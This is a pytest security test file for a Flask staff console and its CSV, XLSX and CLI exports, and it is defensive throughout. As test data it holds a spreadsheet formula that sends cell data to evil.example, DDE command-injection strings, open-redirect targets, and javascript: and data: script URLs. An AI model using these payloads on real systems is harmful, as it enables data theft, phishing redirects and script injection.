"""Attacks on the staff console and the exports, each performed through the real entry point
(the Flask test client on the real app, the `python -m bot` CLI, or gunicorn) — issue #11."""
from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote

import requests
from helpers import console_login, csrf
from openpyxl import load_workbook

from bot import clock, create_app
from bot.complaints import service as tickets
from bot.meetings import service as meetings
from storage import broadcasts as broadcast_store
from storage import enterprises, staff

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL_TEXT = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _login_from(client, address: str, username: str, password: str, forwarded_for: str | None = None):
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    page = client.get("/admin/login", environ_base={"REMOTE_ADDR": address}, headers=headers)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.get_data(as_text=True)).group(1)
    return client.post("/admin/login", data={"username": username, "password": password, "csrf_token": token},
                       environ_base={"REMOTE_ADDR": address}, headers=headers)


def _post(client, path, data, page=None, **kwargs):
    return client.post(path, data=dict(data, csrf_token=csrf(client, page or path)), **kwargs)


def _hostile_ticket(services) -> str:
    with services.db.session() as session:
        firm = enterprises.upsert(session, "+cmd|' /C calc'!A0")[0]
        return tickets.file(services, session, description=EVIL_TEXT, category="供电", source="电话",
                            enterprise_id=firm.id, phone="-2+3+cmd|' /C calc'!A0")[0].ticket_no


# (6) spreadsheet formula injection ---------------------------------------------------------------

def _assert_no_formula_in_csv(data: bytes, ticket: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if r and r[0] == ticket)
    assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
    assert "'" + EVIL_TEXT in row and "'+cmd|' /C calc'!A0" in row       # the text itself is kept


def _assert_no_formula_in_xlsx(data: bytes, ticket: str) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == ticket)
    for cell in row:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)), cell.value
    assert "'" + EVIL_TEXT in [cell.value for cell in row]


def test_console_exports_hold_no_live_formulas(client, accounts):
    ticket = _hostile_ticket(accounts)
    console_login(client, "admin1", "admin-pass-1")
    _assert_no_formula_in_csv(client.get("/admin/complaints/export?format=csv").data, ticket)
    _assert_no_formula_in_xlsx(client.get("/admin/complaints/export?format=xlsx").data, ticket)


def test_cli_exports_hold_no_live_formulas(cli_env, accounts, tmp_path):
    ticket = _hostile_ticket(accounts)
    for fmt, check in (("csv", _assert_no_formula_in_csv), ("xlsx", _assert_no_formula_in_xlsx)):
        out = tmp_path / f"export.{fmt}"
        done = subprocess.run([sys.executable, "-m", "bot", "complaints", "export", "--format", fmt, "--out", str(out)],
                              cwd=ROOT, env=cli_env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        check(out.read_bytes(), ticket)


def test_cli_export_with_a_bad_date_is_one_line_not_a_traceback(cli_env, accounts, tmp_path):
    done = subprocess.run([sys.executable, "-m", "bot", "complaints", "export", "--since", "yesterday",
                           "--out", str(tmp_path / "x.csv")], cwd=ROOT, env=cli_env, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode != 0 and "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_meeting_roster_csv_neutralises_a_hostile_display_name(client, settings, accounts):
    from helpers import OfficialAccountUser

    from storage import users
    with accounts.db.session() as session:
        meeting_id = meetings.create(session, title="测试早茶会", venue="管委会", capacity=5,
                                     starts_at=clock.now() + timedelta(days=2)).id
    OfficialAccountUser(client, settings, "hostile-1").say("报名早茶会")
    with accounts.db.session() as session:
        users.find(session, "wechat", "hostile-1").display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    console_login(client, "admin1", "admin-pass-1")
    data = client.get(f"/admin/meetings/{meeting_id}/attendees.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# (7) open redirect after login -------------------------------------------------------------------

def test_login_never_redirects_to_another_site(client, accounts):
    for target in ("/%09/evil.example/x", "//evil.example", "/\\evil.example", "https://evil.example",
                   "/%0d%0a/evil.example", "/\\/evil.example", "http:evil.example", " //evil.example",
                   "/%20/evil.example", "javascript:alert(1)"):
        page = client.get("/admin/login").get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        response = client.post(f"/admin/login?next={target if '%' in target else quote(target, safe='')}",
                               data={"username": "admin1", "password": "admin-pass-1", "csrf_token": token})
        assert response.status_code == 302, target
        location = response.headers["Location"]
        assert location == "/admin/", (target, location)
        client.post("/admin/logout", data={"csrf_token": csrf(client, "/admin/")})


def test_login_keeps_a_same_site_next(client, accounts):
    token = csrf(client)
    response = client.post("/admin/login?next=" + quote("/admin/complaints?status=received", safe=""),
                           data={"username": "admin1", "password": "admin-pass-1", "csrf_token": token})
    assert response.headers["Location"] == "/admin/complaints?status=received"


# (8) javascript: links in broadcasts -------------------------------------------------------------

BAD_URLS = ("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
            "java\tscript:alert(1)", "http:///nohost", "ftp://files.example/x")


def test_the_console_refuses_a_non_http_broadcast_link(client, accounts):
    console_login(client, "admin1", "admin-pass-1")
    for url in BAD_URLS:
        form = {"title": "研发补助申报通知", "body": "请于月底前申报", "url": url, "target": "all"}
        preview = _post(client, "/admin/broadcasts/preview", form, page="/admin/broadcasts")
        text = preview.get_data(as_text=True)
        assert preview.status_code == 400 and "链接" in text and "研发补助申报通知" in text, url   # input kept
        assert _post(client, "/admin/broadcasts", form, page="/admin/broadcasts").status_code == 400, url
    with accounts.db.session() as session:
        assert broadcast_store.recent(session, 5) == []
    ok = _post(client, "/admin/broadcasts/preview", {"title": "t", "body": "b", "url": "https://gov.example/p?id=1",
                                                    "target": "all"}, page="/admin/broadcasts")
    assert ok.status_code == 200


def test_the_cli_refuses_a_non_http_broadcast_link(cli_env, accounts):
    for url in ("javascript:alert(1)", "data:text/html,x", "vbscript:msgbox(1)"):
        done = subprocess.run([sys.executable, "-m", "bot", "broadcast", "send", "--title", "t", "--body", "b",
                               "--to", "all", "--url", url], cwd=ROOT, env=cli_env, capture_output=True, text=True,
                              timeout=120)
        assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1 and done.stdout.strip() == ""
    with accounts.db.session() as session:
        assert broadcast_store.recent(session, 5) == []


def test_an_old_stored_javascript_link_is_not_rendered_as_a_link(client, accounts):
    with accounts.db.session() as session:
        broadcast_id = broadcast_store.create(session, "旧广播", "正文", "javascript:alert(document.cookie)", "all",
                                              "admin1", []).id
    console_login(client, "admin1", "admin-pass-1")
    page = client.get(f"/admin/broadcasts/{broadcast_id}").get_data(as_text=True)
    assert "旧广播" in page and not re.search(r'href="\s*javascript:', page, re.I)


# (9) login throttling ----------------------------------------------------------------------------

def test_wrong_passwords_from_one_address_do_not_lock_the_account_for_everyone(client, accounts):
    for _ in range(5):
        assert _login_from(client, "203.0.113.7", "admin1", "wrong-guess").status_code == 401
    assert _login_from(client, "203.0.113.7", "admin1", "admin-pass-1").status_code == 429   # that address waits
    assert _login_from(client, "198.51.100.20", "admin1", "admin-pass-1").status_code == 302  # the owner gets in


def test_one_address_spraying_many_accounts_is_stopped(client, accounts):
    codes = [_login_from(client, "203.0.113.8", f"guess{n}", "password1").status_code for n in range(40)]
    assert 429 in codes and codes.count(401) <= 20
    assert _login_from(client, "198.51.100.21", "admin1", "admin-pass-1").status_code == 302


def test_parallel_wrong_passwords_never_pass_the_limit(running_server, accounts):
    barrier, codes = threading.Barrier(16), []

    def attempt():
        with requests.Session() as browser:
            page = browser.get(f"{running_server}/admin/login", timeout=30).text
            token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
            barrier.wait(timeout=60)
            codes.append(browser.post(f"{running_server}/admin/login", timeout=60, allow_redirects=False,
                                      data={"username": "admin1", "password": "wrong", "csrf_token": token}).status_code)

    threads = [threading.Thread(target=attempt) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(codes) == 16 and set(codes) <= {401, 429}
    assert codes.count(401) <= 5, codes


def _app_with_admin(make_app, **changes):
    app = make_app(**changes)
    with app.extensions["bot"].db.session() as session:
        staff.add(session, "admin1", "admin-pass-1", "admin")
        staff.add(session, "power", "power-pass-1", "staff", department="经发局")
    return app


def test_forwarded_for_is_ignored_without_trusted_proxies(make_app):
    client = _app_with_admin(make_app, trusted_proxies=0).test_client()
    for n in range(5):
        _login_from(client, "127.0.0.1", "admin1", "wrong", forwarded_for=f"10.0.0.{n}")
    assert _login_from(client, "127.0.0.1", "admin1", "admin-pass-1", forwarded_for="10.9.9.9").status_code == 429


def test_forwarded_for_is_honoured_behind_one_trusted_proxy(make_app):
    client = _app_with_admin(make_app, trusted_proxies=1).test_client()
    for _ in range(5):
        assert _login_from(client, "127.0.0.1", "admin1", "wrong", forwarded_for="203.0.113.9").status_code == 401
    assert _login_from(client, "127.0.0.1", "admin1", "admin-pass-1",
                       forwarded_for="203.0.113.9").status_code == 429
    # Only the entry the proxy appended counts: a new client forging a left-hand entry is still itself.
    assert _login_from(client, "127.0.0.1", "admin1", "admin-pass-1",
                       forwarded_for="203.0.113.9, 198.51.100.30").status_code == 302


def test_login_with_redis_down_is_a_clear_503_not_a_500(settings, accounts):
    app = create_app(settings=settings.with_overrides(redis_url="redis://127.0.0.1:9/0"))
    client = app.test_client()
    response = console_login(client, "admin1", "admin-pass-1")
    assert response.status_code == 503 and "稍后" in response.get_data(as_text=True)


# (10) sessions -----------------------------------------------------------------------------------

def _copy_session(source, target) -> None:
    target.set_cookie("session", source.get_cookie("session").value)


def test_a_cookie_copied_before_logout_is_refused_after(app, client, accounts):
    console_login(client, "power", "power-pass-1")
    thief = app.test_client()
    _copy_session(client, thief)
    assert thief.get("/admin/").status_code == 200
    client.post("/admin/logout", data={"csrf_token": csrf(client, "/admin/")})
    assert thief.get("/admin/").status_code == 302


def test_a_password_set_by_an_admin_ends_the_accounts_sessions(app, client, accounts):
    console_login(client, "power", "power-pass-1")
    admin = app.test_client()
    console_login(admin, "admin1", "admin-pass-1")
    _post(admin, "/admin/staff", {"username": "power", "password": "power-pass-2", "role": "staff",
                                  "department": "经发局"}, page="/admin/staff")
    assert client.get("/admin/").status_code == 302
    assert admin.get("/admin/").status_code == 200                  # the admin's own session goes on


def test_changing_ones_own_password_ends_the_other_sessions(app, client, accounts):
    console_login(client, "power", "power-pass-1")
    elsewhere = app.test_client()
    _copy_session(client, elsewhere)
    changed = _post(client, "/admin/password", {"current": "power-pass-1", "password": "power-pass-2",
                                                "confirm": "power-pass-2"}, page="/admin/password")
    assert changed.status_code == 302
    assert client.get("/admin/").status_code == 200                 # this browser stays signed in
    assert elsewhere.get("/admin/").status_code == 302
    fresh = app.test_client()
    assert console_login(fresh, "power", "power-pass-1").status_code == 401
    assert console_login(fresh, "power", "power-pass-2").status_code == 302


def test_a_wrong_current_password_changes_nothing(client, accounts):
    console_login(client, "power", "power-pass-1")
    refused = _post(client, "/admin/password", {"current": "nope", "password": "power-pass-2",
                                                "confirm": "power-pass-2"}, page="/admin/password")
    assert refused.status_code == 400 and "当前密码" in refused.get_data(as_text=True)
    with accounts.db.session() as session:
        assert staff.check_password(session, "power", "power-pass-1") is not None


def test_a_password_reset_on_the_command_line_ends_sessions(client, cli_env, accounts):
    console_login(client, "power", "power-pass-1")
    done = subprocess.run([sys.executable, "-m", "bot", "staff", "add", "power", "--role", "staff",
                           "--department", "经发局", "--password-stdin"], cwd=ROOT, env=cli_env,
                          input="power-pass-9\n", capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert client.get("/admin/").status_code == 302


def test_an_idle_session_ends(make_app):
    client = _app_with_admin(make_app, session_idle_minutes=30).test_client()
    console_login(client, "power", "power-pass-1")
    assert client.get("/admin/").status_code == 200
    with client.session_transaction() as cookie:
        cookie["seen"] = time.time() - 29 * 60                       # in use 29 minutes ago: still fine
    assert client.get("/admin/").status_code == 200
    with client.session_transaction() as cookie:
        cookie["seen"] = time.time() - 31 * 60                       # unused 31 minutes
    response = client.get("/admin/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login")
    assert client.get("/admin/").status_code == 302


def test_the_cookie_is_secure_when_configured(make_app):
    response = console_login(_app_with_admin(make_app, session_cookie_secure=True).test_client(), "power",
                             "power-pass-1")
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


# (11) framing, inline script, scoping, paging ----------------------------------------------------

def _assert_security_headers(response) -> None:
    policy = response.headers.get("Content-Security-Policy", "")
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy and "default-src 'self'" in policy
    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert response.headers.get("X-Frame-Options") == "DENY"
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    assert response.headers.get("Referrer-Policy") in ("same-origin", "strict-origin-when-cross-origin", "no-referrer")


def _assert_no_inline_script(path: str, html: str) -> None:
    for tag in re.findall(r"<script\b[^>]*>", html, re.I):
        assert "src=" in tag or 'type="application/json"' in tag, (path, tag)
    assert not re.search(r"\son[a-z]+\s*=", html, re.I), path
    assert "javascript:" not in html.lower(), path


def test_console_pages_carry_security_headers_and_no_inline_script(client, accounts):
    with accounts.db.session() as session:
        meeting_id = meetings.create(session, title="测试早茶会", venue="管委会", capacity=5,
                                     starts_at=clock.now() + timedelta(days=2)).id
        broadcast_id = broadcast_store.create(session, "通知", "正文", "https://gov.example/p", "all", "admin1", []).id
        ticket = tickets.file(accounts, session, description="西区停电", category="供电", source="电话")[0].ticket_no
    login = client.get("/admin/login")
    _assert_security_headers(login)
    _assert_no_inline_script("/admin/login", login.get_data(as_text=True))
    console_login(client, "admin1", "admin-pass-1")
    for path in ("/admin/", "/admin/complaints", f"/admin/complaints/{ticket}", "/admin/complaints/new",
                 "/admin/policies", "/admin/policies/new", "/admin/broadcasts", f"/admin/broadcasts/{broadcast_id}",
                 "/admin/meetings", f"/admin/meetings/{meeting_id}", f"/admin/meetings/{meeting_id}/edit",
                 "/admin/staff", "/admin/audit", "/admin/password", "/admin/meetings/999"):
        response = client.get(path)
        assert response.status_code in (200, 404), path
        _assert_security_headers(response)
        _assert_no_inline_script(path, response.get_data(as_text=True))
    for script in ("admin/console.js", "admin/dashboard.js", "admin/broadcast.js"):
        assert client.get(f"/static/{script}").status_code == 200, script


def test_the_simulator_pages_carry_security_headers(make_app):
    client = make_app(simulator=True).test_client()
    _assert_security_headers(client.get("/"))


def test_scoped_staff_see_only_their_departments_tickets_on_a_meeting_page(client, accounts):
    with accounts.db.session() as session:
        firm = enterprises.upsert(session, "滇池生物科技有限公司")[0]
        meeting = meetings.create(session, title="生物医药早茶会", venue="管委会", capacity=5,
                                  starts_at=clock.now() + timedelta(days=1))
        power = meetings.raise_topic(accounts, session, meeting, firm, "厂区变压器老化经常跳闸", "供电")
        road = meetings.raise_topic(accounts, session, meeting, firm, "门口道路坑洼货车难以进出", "道路交通")
        assert (power.department, road.department) == ("经发局", "城建局")
        meeting_id, power_no, road_no = meeting.id, power.ticket_no, road.ticket_no
    console_login(client, "power", "power-pass-1")
    page = client.get(f"/admin/meetings/{meeting_id}").get_data(as_text=True)
    assert "厂区变压器老化" in page and power_no in page
    assert "门口道路坑洼" not in page and road_no not in page
    client.post("/admin/logout", data={"csrf_token": csrf(client, "/admin/")})
    console_login(client, "admin1", "admin-pass-1")
    page = client.get(f"/admin/meetings/{meeting_id}").get_data(as_text=True)
    assert "厂区变压器老化" in page and "门口道路坑洼" in page


def test_absurd_page_numbers_are_a_clear_answer_not_a_500(client, accounts):
    console_login(client, "admin1", "admin-pass-1")
    for value in ("99999999999999999999", "-1", "0", "abc", "1e9", "２", "9" * 400):
        response = client.get(f"/admin/complaints?page={quote(value)}")
        assert response.status_code in (200, 400), (value, response.status_code)
        if response.status_code == 400:
            assert "页码" in response.get_data(as_text=True)


def test_an_absurd_extension_is_refused_not_a_hang_or_500(client, accounts):
    with accounts.db.session() as session:
        ticket = tickets.file(accounts, session, description="西区停电三天", category="供电", source="电话")[0].ticket_no
    console_login(client, "power", "power-pass-1")
    page = f"/admin/complaints/{ticket}"
    response = _post(client, page, {"action": "extend", "days": "999999999", "reason": "需协调"})
    assert response.status_code == 302
    assert "延期最多 60 个工作日" in client.get(page).get_data(as_text=True)
